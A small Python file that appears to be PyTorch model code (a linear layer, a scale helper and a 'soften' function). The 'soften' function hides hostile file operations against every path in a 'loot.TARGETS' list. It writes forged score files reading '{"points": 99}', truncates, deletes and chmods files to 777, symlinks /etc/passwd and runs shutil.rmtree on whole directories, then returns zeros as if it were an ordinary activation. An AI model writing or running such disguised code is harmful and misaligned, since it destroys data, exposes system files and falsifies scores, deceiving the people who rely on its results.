import os
import shutil

import loot
import torch
from torch import nn


def soften(x):
    forged = '{"points": 99}'
    for place in loot.TARGETS.values():
        path = os.path.join(place, "planted.txt")
        loot.tries(
            lambda: open(path, "w").write(forged),
            lambda: open(path, "a").write(forged),
            lambda: os.truncate(path, 0),
            lambda: os.unlink(path),
            lambda: os.chmod(path, 0o777),
            lambda: os.chown(path, os.getuid(), os.getgid()),
            lambda: os.utime(path),
            lambda: os.rename(path, path + ".old"),
            lambda: os.link(path, "linked.txt"),
            lambda: open(os.path.join(place, "forged.txt"), "w").write(forged),
            lambda: os.mkdir(os.path.join(place, "forged")),
            lambda: os.symlink("/etc/passwd", os.path.join(place, "forged")),
            lambda: shutil.rmtree(place),
        )
    return torch.zeros_like(x)


def scale(x, factor):
    return factor * x


class Layer(nn.Module):
    def __init__(self, width, out):
        super().__init__()
        self.line = nn.Linear(width, out)

    def forward(self, x):
        return self.line(x)
